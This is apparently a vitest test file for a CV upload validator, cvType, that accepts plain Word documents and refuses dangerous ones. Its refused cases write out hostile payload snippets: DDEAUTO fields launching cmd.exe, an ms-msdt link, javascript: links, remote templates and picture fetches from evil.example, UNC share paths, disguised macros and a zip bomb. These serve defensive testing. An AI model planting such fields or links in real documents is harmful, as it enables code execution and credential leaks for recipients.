import { deflateRawSync } from 'node:zlib'
import { expect, test } from 'vitest'
import { docx } from '../testing.ts'
import { cvType } from './cv-type.ts'

const TYPES =
  '<?xml version="1.0" encoding="UTF-8"?><Types><Default Extension="xml" ContentType="application/xml"/></Types>'
const related = (type: string, target: string, mode = 'External') =>
  `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="${mode}"/></Relationships>`
const word = (parts: Record<string, string | Buffer> = {}, types: string | Buffer = TYPES) =>
  docx({ '[Content_Types].xml': types, 'word/document.xml': '<w:document/>', ...parts })
const RELS = 'word/_rels/settings.xml.rels'

test('a Word document may have pictures, fonts, links, and the template of its author’s computer', async () => {
  expect(await cvType(word())).toBe('docx')
  expect(await cvType(word({ 'word/media/me.jpeg': 'x', 'word/fonts/f1.odttf': 'x', 'docProps/': '' }))).toBe('docx')
  expect(await cvType(word({ [RELS]: related('hyperlink', 'https://example.com/') }))).toBe('docx')
  for (const link of [
    'mailto:me@example.com',
    'tel:+15095550100',
    '#_Toc1',
    'Parts/list.docx',
    'file:///C:\\Users\\a\\list.docx',
  ])
    expect(await cvType(word({ [RELS]: related('hyperlink', link) }))).toBe('docx')
  expect(await cvType(word({ [RELS]: related('attachedTemplate', 'file:///C:\\Users\\a\\CV.dotx') }))).toBe('docx')
})

const field = (...pieces: string[]) =>
  `<w:document><w:r><w:fldChar w:fldCharType="begin"/></w:r>${pieces
    .map(piece => `<w:r><w:instrText>${piece}</w:instrText></w:r>`)
    .join('')}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:document>`
test('a Word document may have page numbers and links as fields', async () => {
  expect(await cvType(word({ 'word/document.xml': field(' PAGE ') }))).toBe('docx')
  expect(await cvType(word({ 'word/document.xml': field('HYPERLINK "https://example.com/added"') }))).toBe('docx')
})

const MACRO = TYPES.replace(
  '</Types>',
  '<Default Extension="png" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
)
test.each<[string, Buffer]>([
  ['macros by another name', word({ 'word/macros.png': 'x' }, MACRO)],
  [
    'macros, with their type in character references',
    word({ 'word/m.png': 'x' }, MACRO.replace('vbaProject', '&#x76;ba&#80;roject')),
  ],
  [
    'a macro document',
    word({}, TYPES.replace('application/xml', 'application/vnd.ms-word.document.macroEnabled.main+xml')),
  ],
  ['types in another encoding', word({}, Buffer.from(`\uFEFF${MACRO}`, 'utf16le'))],
  ['content types that define entities', word({}, `<!DOCTYPE x [<!ENTITY a "vba">]>${TYPES}`)],
  ['a part that is not text, picture or font', word({ 'word/macros.bin': 'x' })],
  ['an OLE object', word({ 'word/embeddings/oleObject1.bin': 'x' })],
  ['a spreadsheet inside', word({ 'word/embeddings/Sheet1.xlsx': 'x' })],
  ['a program', word({ 'word/media/run.hta': 'x' })],
  ['a shortcut', word({ 'word/media/run.lnk': 'x' })],
  ['a Java archive', word({ 'META-INF/MANIFEST.MF': 'x', 'A.class': 'x' })],
  ['an object by its relationship', word({ [RELS]: related('oleObject', 'media/a.png', 'Internal') })],
  ['an external template', word({ [RELS]: related('attachedTemplate', 'https://evil.example/t.dotm') })],
  ['a template from another computer', word({ [RELS]: related('attachedTemplate', 'file://evil.example/t.dotm') })],
  ['a link to a file of another computer', word({ [RELS]: related('hyperlink', 'file://evil.example/a.docx') })],
  ['a link to a share', word({ [RELS]: related('hyperlink', '\\\\evil.example\\a.docx') })],
  ['a link to a share as a file', word({ [RELS]: related('hyperlink', 'file:////evil.example/a.docx') })],
  ['a link that starts a program', word({ [RELS]: related('hyperlink', 'ms-msdt:/id PCWDiagnostic') })],
  ['a script as a link', word({ [RELS]: related('hyperlink', 'javascript:alert(1)') })],
  ['a template in single quotes', word({ [RELS]: related('attachedTemplate', 'https://e/').replaceAll('"', "'") })],
  ['a field that starts a program', word({ 'word/document.xml': field(' DDEAUTO c:\\\\cmd.exe "/k calc" ') })],
  ['a field that starts a program, in pieces', word({ 'word/document.xml': field(' DD', 'EAUTO cmd ') })],
  [
    'a field that starts a program, in its short form',
    word({ 'word/footer1.xml': '<w:p><w:fldSimple w:instr="dde cmd"/></w:p>' }),
  ],
  ['a field that fetches a picture', word({ 'word/document.xml': field('INCLUDEPICTURE "https://evil.example/"') })],
  ['a picture that is fetched as a part', word({ [RELS]: related('image', 'http://evil.example/x.png', 'Internal') })],
  ['a picture of another host', word({ [RELS]: related('image', '\\\\evil\\x.png', 'Internal') })],
  [
    'a template with `..` in its path',
    word({ [RELS]: related('attachedTemplate', 'file:///c:\\..\\..\\UNC\\evil\\t.dotm') }),
  ],
  [
    'a web extension',
    word({ '_rels/.rels': related('webextensiontaskpanes', 'word/webextensions/taskpanes.xml', 'Internal') }),
  ],
  [
    'a mail merge',
    word({ 'word/settings.xml': '<w:settings><w:mailMerge><w:query w:val="SELECT"/></w:mailMerge></w:settings>' }),
  ],
  ['a field that includes a document', word({ 'word/document.xml': field('RD "\\\\evil\\s.docx"') })],
  ['a field that runs a macro', word({ 'word/document.xml': field('MACROBUTTON Run Click') })],
  ['a field that composes the name of another field', word({ 'word/document.xml': field('SET a "DDE"') })],
  ['a picture that is fetched', word({ [RELS]: related('image', 'https://evil.example/seen.png') })],
])('a Word document with %s is refused', async (_, bytes) => {
  expect(await cvType(bytes)).toBeNull()
})

test('a Word document that unpacks to a very large size is refused', async () => {
  const bomb = Buffer.alloc(20_000_000, 32)
  expect(deflateRawSync(bomb).length).toBeLessThan(30_000)
  expect(await cvType(word({ [RELS]: bomb }))).toBeNull()
})
